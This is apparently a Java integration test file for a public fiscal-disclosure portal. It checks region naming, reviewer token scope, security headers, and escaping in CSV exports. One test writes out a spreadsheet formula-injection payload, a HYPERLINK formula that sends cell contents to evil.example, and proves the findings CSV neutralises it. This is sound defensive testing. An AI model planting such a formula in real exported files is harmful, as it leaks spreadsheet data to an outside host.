package org.fiscaldisclosure.disclosure;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.util.Map;
import org.fiscaldisclosure.contracts.event.PartKind;
import org.fiscaldisclosure.disclosure.assembly.RegionNames;
import org.fiscaldisclosure.infra.EmbeddedInfraTestResource;
import org.fiscaldisclosure.platform.security.SecurityHeaders;
import org.fiscaldisclosure.testsupport.TestTokens;
import org.junit.jupiter.api.Test;

/**
 * Region names on public pages and summaries come from the shipped catalogue of administrative division codes or from
 * published versions, never from a draft's 单位基本情况; listings show a token only the units it grants; HTML pages carry
 * the security headers; the findings CSV neutralises text a spreadsheet would run.
 */
@QuarkusTest
@WithTestResource(value = EmbeddedInfraTestResource.class, initArgs = @ResourceArg(name = "database", value = "disclosure"))
class RegionNamesAndScopeTest {

    static final PartEvents events = new PartEvents();
    static final String FAKE = "钓鱼网站请点击";

    static void draftNamingItsRegion(String unit, String regionText) throws Exception {
        ObjectNode part = PartEvents.sample(PartKind.STATEMENTS);
        part.with("unit").put("region", regionText);
        PartPayload.consistent(PartKind.STATEMENTS, unit, 1).content(part).sendWith(events);
        Await.revision(unit, "statements", 1);
    }

    @Test
    void theCatalogueHoldsBeijingsSixteenDistrictsAndTheCity() {
        Map<String, String> c = new RegionNames().catalogue();
        assertEquals(17, c.size());
        assertEquals("北京市", c.get("110000"));
        assertEquals("东城区", c.get("110101"));
        assertEquals("西城区", c.get("110102"));
        assertEquals("昌平区", c.get("110114"));
        assertEquals("延庆区", c.get("110119"));
        assertEquals(16, c.keySet().stream().filter(k -> k.startsWith("1101")).count());
    }

    @Test
    void aDraftsRegionTextNeverNamesARegionInTheCatalogue() throws Exception {
        String unit = "110114-N" + java.util.UUID.randomUUID().toString().substring(0, 8).toUpperCase();
        draftNamingItsRegion(unit, FAKE);
        given().get("/api/v1/regions").then().statusCode(200)
                .body("findAll { it.regionCode == '110114' }.regionName", everyItem(equalTo("昌平区")));
        given().get("/api/v1/regions/110114/summary?year=2024").then().statusCode(200).body("regionName", equalTo("昌平区"));
        String page = Drafts.html("/portal/110114/2024");
        assertTrue(page.contains("昌平区"), "the catalogue's name is the heading");
        assertFalse(page.contains(FAKE), "the draft's text is not shown");
        assertFalse(Drafts.html("/portal").contains(FAKE));
        given().get("/api/v1/disclosures/" + unit + "/2024").then().statusCode(200);
        given().get("/api/v1/disclosures?year=2024&region=110114&size=500").then().statusCode(200)
                .body("items.regionName", everyItem(equalTo("昌平区")));
    }

    @Test
    void aRegionOutsideTheCatalogueIsNamedOnlyOnceAVersionIsPublished() throws Exception {
        String region = Drafts.region();
        String unit = Drafts.unitIn(region);
        draftNamingItsRegion(unit, FAKE);
        given().get("/api/v1/regions").then().statusCode(200)
                .body("find { it.regionCode == '" + region + "' }.regionName", nullValue());
        given().get("/api/v1/regions/" + region + "/summary?year=2024").then().body("regionName", nullValue());
        assertFalse(Drafts.html("/portal/" + region + "/2024").contains(FAKE));
        assertFalse(Drafts.html("/portal/regions/" + region + "/2024").contains(FAKE));

        String named = Drafts.unitIn(region);
        ObjectNode statements = PartEvents.sample(PartKind.STATEMENTS);
        statements.with("unit").put("region", "测试区");
        PartPayload.consistent(PartKind.STATEMENTS, named, 1).content(statements).sendWith(events);
        PartPayload.consistent(PartKind.PROCUREMENT, named, 1).sendWith(events);
        PartPayload.consistent(PartKind.PERFORMANCE, named, 1).sendWith(events);
        Await.get("/api/v1/disclosures/" + named + "/2024", j -> "COMPLETE".equals(j.getString("completeness")));
        Drafts.publish(named, null);
        given().get("/api/v1/regions").then()
                .body("find { it.regionCode == '" + region + "' }.regionName", equalTo("测试区"));
        given().get("/api/v1/regions/" + region + "/summary?year=2024").then().body("regionName", equalTo("测试区"));
        String page = Drafts.html("/portal/" + region + "/2024");
        assertTrue(page.contains("测试区"));
        assertFalse(page.contains(FAKE));
    }

    @Test
    void theListingShowsAReviewerOnlyTheUnitsItsTokenGrants() throws Exception {
        String suffix = java.util.UUID.randomUUID().toString().substring(0, 6).toUpperCase();
        String own = "110108-S" + suffix;
        String other = "110114-S" + suffix;
        draftNamingItsRegion(own, "海淀区");
        draftNamingItsRegion(other, "昌平区");
        String haidian = TestTokens.issuer().token("r-haidian").name("海淀审核").roles("reviewer").units("110108-*").sign();
        given().header("Authorization", "Bearer " + haidian).get("/api/v1/disclosures?year=2024&region=110114").then()
                .statusCode(200).body("total", equalTo(0));
        given().header("Authorization", "Bearer " + haidian).get("/api/v1/disclosures?year=2024&size=500").then()
                .statusCode(200).body("items.unitCode", hasItem(own)).body("items.unitCode", not(hasItem(other)))
                .body("items.regionCode", everyItem(equalTo("110108")));
        String whitespace = TestTokens.issuer().token("r-ws").name("空白").roles("publisher").units("\t*\n").sign();
        given().header("Authorization", "Bearer " + whitespace).get("/api/v1/disclosures?year=2024").then()
                .statusCode(200).body("total", equalTo(0));
        given().header("Authorization", "Bearer " + whitespace).get("/api/v1/disclosures/" + other + "/2024").then()
                .statusCode(403);
        given().header("Authorization", "Bearer " + TestTokens.admin()).get("/api/v1/disclosures?year=2024&region=110114&size=500")
                .then().statusCode(200).body("items.unitCode", hasItem(other));
    }

    @Test
    void everyHtmlPageCarriesTheSecurityHeadersAndOtherAnswersNosniff() {
        for (String path : new String[]{"/portal", "/portal/110102/2024", "/portal/999998/2024"}) {
            given().accept(ContentType.HTML).get(path).then()
                    .contentType(startsWith("text/html"))
                    .header("Content-Security-Policy", equalTo(SecurityHeaders.CONTENT_SECURITY_POLICY))
                    .header("X-Content-Type-Options", equalTo("nosniff"))
                    .header("X-Frame-Options", equalTo("DENY"))
                    .header("Referrer-Policy", equalTo("same-origin"));
        }
        given().get("/api/v1/regions").then().statusCode(200).header("X-Content-Type-Options", equalTo("nosniff"))
                .header("Content-Security-Policy", nullValue());
        given().header("Authorization", "Bearer nope").get("/api/v1/disclosures?year=2024").then().statusCode(401)
                .header("X-Content-Type-Options", equalTo("nosniff"));
        assertTrue(SecurityHeaders.CONTENT_SECURITY_POLICY.contains("default-src 'none'"));
        assertTrue(SecurityHeaders.CONTENT_SECURITY_POLICY.contains("frame-ancestors 'none'"));
        assertFalse(SecurityHeaders.CONTENT_SECURITY_POLICY.contains("script-src"), "no script runs on a page");
    }

    @Test
    void theFindingsCsvQuotesAFormulaInAFindingsTextAndKeepsItsNumbers() throws Exception {
        String unit = Drafts.unitIn(Drafts.region());
        String hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        PartPayload.consistent(PartKind.PROCUREMENT, unit, 1)
                .finding("PR-T12-001", "WARNING", "T12", "@项目", "政府购买服务项目 " + hyperlink)
                .finding("PR-T12-002", "INFO", "T12", hyperlink, "+86 金额为负").sendWith(events);
        Await.revision(unit, "procurement", 1);
        String csv = given().accept("text/csv").get("/api/v1/disclosures/" + unit + "/2024/findings").then().statusCode(200)
                .extract().asString();
        assertTrue(csv.contains(",'@项目,"), csv);
        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","), csv);
        assertTrue(csv.contains(",'+86 金额为负"), csv);
        for (String line : csv.split("\r\n")) {
            for (String field : line.split(",")) {
                assertFalse(field.startsWith("=") || field.startsWith("@") || field.startsWith("+")
                        || field.startsWith("\"=") || field.startsWith("\"@"), "a field starts a formula: " + line);
            }
        }
    }
}
